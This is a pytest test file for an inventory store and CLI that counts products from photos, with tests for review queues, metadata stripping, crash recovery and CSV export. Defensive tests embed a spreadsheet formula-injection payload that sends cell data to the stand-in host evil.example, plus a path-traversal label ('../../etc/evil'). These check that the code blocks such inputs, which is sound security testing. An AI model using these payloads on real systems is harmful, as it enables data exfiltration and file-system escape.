"""The inventory store and `skulens inventory`: idempotent counts, review queue, labelled data, crash safety."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest

from _serve_util import has_gps, photo_bytes
from skulens.data.catalogue import load_catalogue
from skulens.serve.images import content_hash, stripped_jpeg
from skulens.serve.inventory import IntakePhoto, InventoryError, InventoryStore


def _photo(i: int, label: str = "oat-milk", conf: float = 0.9, image: bytes | None = None) -> IntakePhoto:
    return IntakePhoto(f"{i:064x}", f"p{i}.jpg", label, conf, ((label, conf),), image)


def test_intake_counts_confident_photos_once(inventory_db) -> None:
    with inventory_db.store() as store:
        res = store.intake([_photo(1), _photo(2), _photo(1), _photo(3, "red-apple")], threshold=0.6, actor="t")
        assert [r.status for r in res] == ["counted", "counted", "duplicate", "counted"]
        assert [r.count for r in res] == [1, 2, None, 1]
        again = store.intake([_photo(2), _photo(3, "red-apple")], threshold=0.6, actor="t")
        assert [r.status for r in again] == ["duplicate", "duplicate"]
        assert again[0].previous_status == "counted" and again[0].label == "oat-milk"
        assert store.counts() == {"oat-milk": 2, "red-apple": 1}
        audit = store.audit()
        assert [a.action for a in audit] == ["intake"] * 3 and audit[0].count_after == 1
        assert audit[0].actor == "t" and audit[0].photo == f"{3:064x}"


def test_low_confidence_is_queued_and_a_reviewer_resolves_it(inventory_db, tmp_path: Path) -> None:
    img = stripped_jpeg(photo_bytes("green-apple", 1, gps=True))
    with inventory_db.store() as store:
        res = store.intake([_photo(1, "green-apple", 0.3, img), _photo(2, "green-apple", 0.2, img),
                            _photo(3, None, 0.1, img)], threshold=0.6, actor="cam")
        assert [r.status for r in res] == ["review"] * 3
        assert store.counts() == {} and store.review_size() == 3
        assert store.photo_file(f"{1:064x}") is not None
        store.resolve(f"{1:064x}", "green-apple", actor="ana")  # confirm
        store.resolve(f"{2:064x}", "red-apple", actor="ana")  # correct
        store.resolve(f"{3:064x}", None, actor="ana")  # reject
        assert store.counts() == {"green-apple": 1, "red-apple": 1}
        assert [store.photo(f"{i:064x}").status for i in (1, 2, 3)] == ["confirmed", "corrected", "rejected"]
        with pytest.raises(InventoryError, match="not waiting for review"):
            store.resolve(f"{1:064x}", "oat-milk", actor="ana")
        with pytest.raises(InventoryError, match="not in the inventory"):
            store.resolve(f"{9:064x}", "oat-milk", actor="ana")
        for bad in ("bad\nlabel", "red-apple\u200b", "\u202eelppa-der", "red\x7fapple"):  # no invisible twins
            with pytest.raises(InventoryError, match="invalid label"):
                store.resolve(f"{9:064x}", bad, actor="ana")
        actions = [a.action for a in store.audit()]
        assert actions[:3] == ["review_rejected", "review_corrected", "review_confirmed"]
        # Re-sending a reviewed photo changes nothing.
        assert store.intake([_photo(2, "green-apple", 0.99)], threshold=0.6, actor="cam")[0].status == "duplicate"
        assert store.counts() == {"green-apple": 1, "red-apple": 1}
    cat = load_catalogue(tmp_path / "inv-labelled", val_fraction=0)
    assert sorted(s.label for s in cat.split("train")) == ["green-apple", "red-apple"]
    assert all(not has_gps(s.path.read_bytes()) for s in cat.split("train"))
    # Reviewed photos moved to the labelled folder; the rejected one is gone (privacy).
    assert sorted(p.name for p in (tmp_path / "inv-photos").iterdir()) == []
    with inventory_db.store() as store:
        assert store.photo_file(f"{2:064x}") == tmp_path / "inv-labelled" / "red-apple" / f"{2:064x}.jpg"
        assert store.photo_file(f"{3:064x}") is None


def test_a_correction_must_name_a_known_product(inventory_db) -> None:
    from skulens.serve.inventory import IntakeBox, ShelfPhoto, UnknownLabelError

    known = ("green-apple", "oat-milk", "red-apple")
    crop = stripped_jpeg(photo_bytes("oat-milk", 4))
    box = IntakeBox((0.0, 0.0, 40.0, 40.0), 0.8, None, 0.2, "oat-milk", crop)  # a shelf box: reviewed alike
    with inventory_db.store() as store:
        store.intake([_photo(1, "oat-milk", 0.1, crop), ShelfPhoto(f"{2:064x}", "shelf.jpg", (box,), 64, 64)],
                     threshold=0.6, actor="cam")
        for item in (f"{1:064x}", f"{2:064x}:0"):
            with pytest.raises(UnknownLabelError, match=r"unknown product 'Oat-Milkk': did you mean 'oat-milk'"):
                store.resolve(item, "Oat-Milkk", actor="ana", known=known)
            with pytest.raises(UnknownLabelError) as err:
                store.resolve(item, "Bananna", actor="ana", known=known)
            assert err.value.label == "Bananna" and err.value.suggestions == ()
        # A typo invented nothing: no count, no class folder for retraining, both still waiting.
        assert store.counts() == {} and store.review_size() == 2 and not store.labelled_dir.exists()
        assert store.resolve(f"{1:064x}", "oat-milk", actor="ana", known=known).status == "confirmed"
        assert store.resolve(f"{2:064x}:0", "red-apple", actor="ana", known=known).status == "corrected"
        assert store.counts() == {"oat-milk": 1, "red-apple": 1}
        assert store.labels() == {"oat-milk", "red-apple"}  # what the CLI checks against without a model


def test_a_review_cut_short_by_a_crash_is_finished_later(inventory_db, tmp_path: Path) -> None:
    img = stripped_jpeg(photo_bytes("oat-milk", 5))
    with inventory_db.store() as store:
        store.intake([_photo(1, "oat-milk", 0.1, img)], threshold=0.6, actor="t")
        store.resolve(f"{1:064x}", "oat-milk", actor="t")
        # Undo the file move, as if the process died right after the review committed.
        moved = tmp_path / "inv-labelled" / "oat-milk" / f"{1:064x}.jpg"
        moved.rename(tmp_path / "inv-photos" / f"{1:064x}.jpg")
        (tmp_path / "inv-labelled" / "manifest.csv").unlink()
        assert store.write_manifest() is not None
    assert moved.read_bytes() == img
    assert load_catalogue(tmp_path / "inv-labelled", val_fraction=0).split("train")[0].label == "oat-milk"


def test_labels_cannot_escape_the_labelled_folder(inventory_db, tmp_path: Path) -> None:
    img = stripped_jpeg(photo_bytes("oat-milk", 2))
    with inventory_db.store() as store:
        store.intake([_photo(1, "x", 0.1, img)], threshold=0.6, actor="t")
        store.resolve(f"{1:064x}", "../../etc/evil", actor="t")
    files = [p for p in (tmp_path / "inv-labelled").rglob("*.jpg")]
    assert len(files) == 1 and files[0].resolve().is_relative_to((tmp_path / "inv-labelled").resolve())
    assert not (tmp_path.parent / "etc").exists()


def test_counted_photos_are_not_kept_unless_asked(inventory_db) -> None:
    img = stripped_jpeg(photo_bytes("oat-milk", 3))
    with inventory_db.store("a") as store:
        store.intake([_photo(1, image=img)], threshold=0.6, actor="t")
        assert store.photo_file(f"{1:064x}") is None and not store.photo_dir.exists()
    with inventory_db.store("b") as store:
        store.intake([_photo(1, image=img)], threshold=0.6, actor="t", keep_photos=True)
        assert store.photo_file(f"{1:064x}").read_bytes() == img


def test_intake_re_encodes_only_the_photos_it_keeps() -> None:
    """The one intake rule (API and `inventory scan`): a photo going to review, or every photo with
    keep_photos, is stored EXIF-free; a photo that counts at once is not stored."""
    from skulens.models.predictor import Prediction
    from skulens.serve.intake import intake_photo

    raw = photo_bytes("oat-milk", 7, gps=True)
    sure = Prediction("p.jpg", "oat-milk", "fine", 0.9, "oat-milk", 0.9, top_k=(("oat-milk", 0.9),))
    unsure = Prediction("p.jpg", "oat-milk", "fine", 0.3, "oat-milk", 0.3, top_k=(("oat-milk", 0.3),))
    assert intake_photo(raw, "h", "p.jpg", sure, threshold=0.6).image is None
    assert intake_photo(raw, "h", "p.jpg", sure, threshold=0.6, keep_photos=True).image == stripped_jpeg(raw)
    queued = intake_photo(raw, "h", "p.jpg", unsure, threshold=0.6)
    assert queued == IntakePhoto("h", "p.jpg", "oat-milk", 0.3, (("oat-milk", 0.3),), stripped_jpeg(raw))
    assert not has_gps(queued.image)

def test_stripped_jpeg_drops_exif_and_keeps_orientation() -> None:
    from PIL import Image

    raw = photo_bytes("red-apple", 4, gps=True)
    assert has_gps(raw)
    out = stripped_jpeg(raw)
    with Image.open(io.BytesIO(out)) as im:
        assert not im.getexif() and im.format == "JPEG" and im.size == (72, 72)
    assert content_hash(raw) != content_hash(out)


@pytest.mark.parametrize("fmt", ["JPEG", "GIF", "PNG"])
def test_kept_photos_and_crops_carry_no_comment_or_text_of_the_upload(fmt: str) -> None:
    """A JPEG COM segment or a GIF/PNG comment can hold what a person typed (an address); Pillow wrote the decoded
    photo's comment back into the kept copy."""
    from PIL import Image, PngImagePlugin

    from skulens.serve.images import encode_jpeg

    buf = io.BytesIO()
    im = Image.new("RGB", (90, 60), (10, 200, 90))
    if fmt == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "my home address")
        im.save(buf, "PNG", pnginfo=info)
    else:
        im.save(buf, fmt, comment=b"my home address")
    raw = buf.getvalue()
    assert b"my home address" in raw
    assert b"home address" not in stripped_jpeg(raw)
    with Image.open(io.BytesIO(raw)) as opened:  # a decoded photo and a crop of it, as shelf boxes are kept
        big = opened.convert("RGB")  # the photo's info (its comment) goes with it
        assert big.info.get("comment") or big.info.get("Comment")
        assert b"home address" not in encode_jpeg(big, short_side=20)
        assert b"home address" not in encode_jpeg(big)
        assert b"home address" not in encode_jpeg(big.crop((0, 0, 40, 40)))


def test_adjust_export_and_audit(inventory_db) -> None:
    with inventory_db.store() as store:
        store.intake([_photo(1)], threshold=0.6, actor="t")
        assert store.adjust("oat-milk", delta=4, actor="u", reason="delivery") == 5
        assert store.adjust("oat-milk", count=2, actor="u") == 2
        with pytest.raises(InventoryError):
            store.adjust("oat-milk", delta=-3, actor="u")
        with pytest.raises(InventoryError):
            store.adjust("oat-milk", actor="u")
        buf = io.StringIO()
        assert store.export_csv(buf) == 1
        rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
        assert rows[0]["label"] == "oat-milk" and rows[0]["count"] == "2"
        last = store.audit(limit=1)[0]
        assert (last.action, last.delta, last.count_after) == ("adjust", -3, 2)
        assert [a.id for a in store.audit(before_id=last.id)] == [last.id - 1, last.id - 2]


def test_concurrent_writers_count_exactly(inventory_db) -> None:
    """Eight threads (and a second connection) send overlapping photos: each unique photo counts once."""
    unique = 200
    with inventory_db.store() as store, inventory_db.store() as other:
        def worker(w: int) -> None:
            target = store if w % 2 else other
            for start in range(0, unique, 10):
                ids = [(start + j + w) % unique for j in range(10)]
                target.intake([_photo(i, ("a", "b")[i % 2]) for i in ids], threshold=0.6, actor=f"w{w}")

        threads = [threading.Thread(target=worker, args=(w,)) for w in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert store.counts() == {"a": unique // 2, "b": unique // 2}
        assert sum(a.action == "intake" for a in store.audit(limit=10_000)) == unique


_CHILD = textwrap.dedent("""
    import sys, time
    from skulens.serve.inventory import IntakePhoto, InventoryStore
    store = InventoryStore(sys.argv[1])
    n = int(sys.argv[2])
    for start in range(0, n, 5):
        batch = [IntakePhoto(f"{i:064x}", f"p{i}.jpg", "oat-milk" if i % 3 else "red-apple", 0.9) for i in
                 range(start, min(n, start + 5))]
        store.intake(batch, threshold=0.6, actor="child")
        print(start, flush=True)
        time.sleep(0.01)
""")


def test_kill_9_mid_intake_then_rerun_loses_nothing_and_counts_nothing_twice(inventory_db) -> None:
    path, n = inventory_db.url(), 400
    cmd = [sys.executable, "-c", _CHILD, path, str(n)]
    child = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True)
    for _ in range(10):  # let it commit a few batches, then kill it without warning
        child.stdout.readline()
    os.kill(child.pid, signal.SIGKILL)
    child.wait()
    with inventory_db.store() as store:
        partial = sum(store.counts().values())
    assert 0 < partial < n
    subprocess.run(cmd, check=True, capture_output=True)  # the retry sends everything again
    with inventory_db.store() as store:
        assert store.counts() == {"oat-milk": n - len(range(0, n, 3)), "red-apple": len(range(0, n, 3))}
        assert sum(a.action == "intake" for a in store.audit(limit=10_000)) == n
    if inventory_db.backend == "sqlite":
        assert sqlite3.connect(path).execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_newer_schema_is_refused(inventory_db) -> None:
    inventory_db.store().close()
    if inventory_db.backend == "sqlite":
        con = sqlite3.connect(inventory_db.url())
        con.execute("PRAGMA user_version=99")
        con.close()
    else:  # PostgreSQL keeps the version in a table
        inventory_db.execute("inv", "UPDATE skulens_schema SET version = 99")
    with pytest.raises(InventoryError, match="newer"):
        inventory_db.store()


# -- the CLI, with the real tiny model ------------------------------------------------------------------


def _cli(*args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "skulens.cli", *args], capture_output=True, text=True, check=False,
                          timeout=timeout, env={**os.environ, "OMP_NUM_THREADS": "1"})


def test_cli_scan_is_idempotent_and_resumable_after_kill_9(tiny_bundle, tmp_path: Path) -> None:
    photos = tmp_path / "shelf"
    labels = ("red-apple", "green-apple", "oat-milk")
    for i in range(36):
        (photos / labels[i % 3]).mkdir(parents=True, exist_ok=True)
        (photos / labels[i % 3] / f"{i:03d}.jpg").write_bytes(photo_bytes(labels[i % 3], 500 + i, gps=i == 0))
    (photos / "notes.jpg").write_bytes(b"not a photo")
    db = tmp_path / "inv.sqlite"
    args = ["inventory", "scan", str(photos), "--model", str(tiny_bundle.bundle), "--db", str(db),
            "--batch-size", "4", "--threshold", "0.6", "--device", "cpu"]
    child = subprocess.Popen([sys.executable, "-m", "skulens.cli", *args], stdout=subprocess.PIPE, text=True,
                             stderr=subprocess.DEVNULL, env={**os.environ, "OMP_NUM_THREADS": "1"})
    for _ in range(6):
        child.stdout.readline()
    os.kill(child.pid, signal.SIGKILL)
    child.wait()
    done = _cli(*args)
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert sum(ln["status"] == "error" for ln in lines) == 1
    assert sum(ln["status"] == "duplicate" for ln in lines) >= 4  # what the killed run had committed
    with InventoryStore(db) as store:
        photos_seen = store.stats()
        assert sum(photos_seen.values()) == 36  # every photo once: none lost, none twice
        assert sum(store.counts().values()) == photos_seen.get("counted", 0)
    again = _cli(*args, "-q")
    assert "0 counted, 0 for review, 36 already in the inventory, 1 unreadable" in again.stderr


def test_cli_scan_of_the_folder_that_holds_the_database_leaves_its_own_files_out(tiny_bundle, tmp_path: Path,
                                                                                  capsys) -> None:
    """With --db inside the scanned folder, each rerun took the kept photos (<db>-photos/) and reviewed ones
    (<db>-labelled/) in again: re-encoded, so new hashes, and the counts grew on every run."""
    from skulens.cli import main

    shop = tmp_path / "shop"
    labels = ("red-apple", "green-apple", "oat-milk")
    for i in range(6):
        (shop / labels[i % 3]).mkdir(parents=True, exist_ok=True)
        (shop / labels[i % 3] / f"{i:03d}.jpg").write_bytes(photo_bytes(labels[i % 3], 900 + i))
    db = shop / "inv.sqlite"
    args = ["inventory", "scan", str(shop), "-m", str(tiny_bundle.bundle), "--db", str(db), "--keep-photos",
            "--threshold", "0.5", "--device", "cpu", "-q"]
    assert main(args) == 0
    with InventoryStore(db) as store:
        first = store.counts()
        assert any((shop / "inv-photos").rglob("*")) and sum(store.stats().values()) == 6
    capsys.readouterr()
    for _ in range(2):
        assert main(args) == 0
        err = capsys.readouterr().err
        assert "left out" in err and "already in the inventory" in err
    with InventoryStore(db) as store:
        assert store.counts() == first and sum(store.stats().values()) == 6


def test_cli_review_lists_the_whole_queue(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`inventory review` without an id stopped at 1000 items, unsaid."""
    from skulens.cli import main

    db = tmp_path / "big.sqlite"
    with InventoryStore(db) as store:
        store.intake([_photo(i, conf=0.1) for i in range(1, 1006)], threshold=0.6, actor="t")
        assert store.review_size() == 1005
    assert main(["inventory", "review", "--db", str(db)]) == 0
    listed = [json.loads(line)["sha256"] for line in capsys.readouterr().out.splitlines()]
    assert len(listed) == len(set(listed)) == 1005


def test_cli_counts_review_and_audit(inventory_db, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from skulens.cli import main

    db = inventory_db.url()
    img = stripped_jpeg(photo_bytes("oat-milk", 9))
    with inventory_db.store() as store:
        store.intake([_photo(1), _photo(2, "red-apple", 0.1, img)], threshold=0.6, actor="t")
    assert main(["inventory", "counts", "--db", str(db)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == "label,count,updated_at" and lines[1].startswith("oat-milk,1,") and len(lines) == 2
    assert main(["inventory", "counts", "--db", str(db), "-o", str(tmp_path / "c.csv")]) == 0
    assert (tmp_path / "c.csv").read_text().startswith("label,count,updated_at\noat-milk,1,")
    capsys.readouterr()
    assert main(["inventory", "review", "--db", str(db)]) == 0
    [queued] = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "card.json").write_text("{}")
    for resolve in ([], [queued["sha256"], "--reject"]):  # -m checks a correction's name: accepted, never read
        assert main(["inventory", "review", "--db", str(db), *resolve, "-m", str(tmp_path / "other")]) == 2
        assert "listing the queue or --reject reads no model" in capsys.readouterr().err
    assert queued["predicted_label"] == "red-apple" and queued["status"] == "review"
    # Without --model a correction names a product this inventory knows; a typo is a usage error.
    assert main(["inventory", "review", "--db", str(db), queued["sha256"], "--label", "oat-milkk",
                 *inventory_db.cli_dirs()]) == 2
    err = capsys.readouterr().err
    assert "unknown product 'oat-milkk': did you mean 'oat-milk'?" in err
    assert "pass -m MODEL to name any product of the model" in err  # it sent a user to enrol a trained product
    if inventory_db.backend == "postgresql":  # the CLI's default folders (./postgres-photos) are not the store's
        assert main(["inventory", "review", "--db", str(db), queued["sha256"], "--label", "oat-milk"]) == 2
        assert "give the folders the service uses" in capsys.readouterr().err  # not a correction without its photo
    assert main(["inventory", "review", "--db", str(db), queued["sha256"], "--label", "oat-milk",
                 *inventory_db.cli_dirs()]) == 0
    assert json.loads(capsys.readouterr().out)["status"] == "corrected"
    with inventory_db.store() as store:
        labelled = store.photo_file(queued["sha256"])
        assert labelled is not None and labelled.parent == store.labelled_dir / "oat-milk"  # training data landed
    # A usage error is exit code 2 with one line (it was a SystemExit, exit code 1, before the CLI's one grammar).
    assert main(["inventory", "review", "--db", str(db), queued["sha256"], "--reject"]) == 2
    assert "not waiting for review" in capsys.readouterr().err
    assert main(["inventory", "audit", "--db", str(db), "--limit", "2"]) == 0
    audit = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [a["action"] for a in audit] == ["review_corrected", "review_queued"]
    assert audit[0]["actor"].startswith("cli")
    # past the database's largest integer: every entry (it was an OverflowError traceback)
    assert main(["inventory", "audit", "--db", str(db), "--limit", str(10**23)]) == 0
    assert len(capsys.readouterr().out.splitlines()) > 2


def test_cli_review_checks_labels_against_the_model(tiny_bundle, inventory_db,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    from skulens.cli import main

    db = inventory_db.url()
    with inventory_db.store() as store:
        store.intake([_photo(1, "red-apple", 0.1)], threshold=0.6, actor="t")
    item = ["inventory", "review", "--db", str(db), f"{1:064x}"]
    # green-apple: one of the model's products, never seen by this inventory.
    assert main([*item, "--label", "green-apple"]) == 2
    assert "unknown product 'green-apple'" in capsys.readouterr().err
    assert main([*item, "--label", "Bananna", "--model", str(tiny_bundle.bundle)]) == 2
    assert "unknown product 'Bananna'" in capsys.readouterr().err
    assert main([*item, "--label", "green-apple", "--model", str(tiny_bundle.bundle)]) == 0
    assert json.loads(capsys.readouterr().out)["status"] == "corrected"


def test_stock_rows_and_csv_export_with_product_names(inventory_db) -> None:
    with inventory_db.store() as store:
        store.intake([_photo(1), _photo(2, "red-apple")], threshold=0.6, actor="t")
        store.adjust("red-apple", count=4, actor="u", reason="recounted")
        stock = store.stock()
        assert [(lab, n) for lab, n, _ in stock] == [("oat-milk", 1), ("red-apple", 4)]
        assert stock[1][2] >= stock[0][2]  # the stock take came later
        # Without names: the columns as they always were (the CLI's export); with names, a title column last.
        plain = io.StringIO()
        store.export_csv(plain)
        assert plain.getvalue().splitlines()[0] == "label,count,updated_at"
        named = io.StringIO()
        assert store.export_csv(named, titles={"oat-milk": "Oatly Oat Milk"}.get) == 2
        rows = list(csv.reader(io.StringIO(named.getvalue())))
        assert rows == [["label", "count", "updated_at", "title"], ["oat-milk", "1", stock[0][2], "Oatly Oat Milk"],
                        ["red-apple", "4", stock[1][2], ""]]
        # a title (or label) a spreadsheet would run as a formula is written as text (a ' first, OWASP's advice)
        hostile = io.StringIO()
        store.export_csv(hostile, titles={"oat-milk": '=HYPERLINK("http://evil.example/?"&A1,"x")',
                                          "red-apple": "-1+1"}.get)
        rows = list(csv.reader(io.StringIO(hostile.getvalue())))
        assert [r[3] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'-1+1"]
        # The audit line of a hand change says whether it set the count (a stock take) or changed it by a number.
        store.adjust("red-apple", delta=-1, actor="u", reason="sold")
        assert [a.detail for a in store.audit(limit=2)] == [{"reason": "sold", "mode": "delta"},
                                                            {"reason": "recounted", "mode": "set"}]


def test_a_confidence_at_the_threshold_counts(inventory_db) -> None:
    """review_threshold: below it a photo (or shelf box) waits for review; at it, it counts (README: "at or
    above the review threshold")."""
    from skulens.serve.inventory import IntakeBox, ShelfPhoto

    shelf = ShelfPhoto(f"{9:064x}", "shelf.jpg", (IntakeBox((0, 0, 10, 10), 0.9, "red-apple", 0.6),
                                                  IntakeBox((10, 0, 20, 10), 0.9, "red-apple", 0.59)),
                       640, 480, False, None)
    with inventory_db.store() as store:
        res = store.intake([_photo(1, conf=0.6), _photo(2, conf=0.59), shelf], threshold=0.6, actor="t")
        assert [r.status for r in res[:2]] == ["counted", "review"]
        assert store.counts() == {"oat-milk": 1, "red-apple": 1}
        assert store.review_size() == 2


def test_a_stock_take_below_zero_is_refused(inventory_db) -> None:
    with inventory_db.store() as store:
        store.intake([_photo(1)], threshold=0.6, actor="t")
        with pytest.raises(InventoryError, match=r"would become -1 \(in stock: \d+\)"):  # says what there is
            store.adjust("oat-milk", count=-1, actor="u")
        assert store.count("oat-milk") == 1 and [a.action for a in store.audit()] == ["intake"]
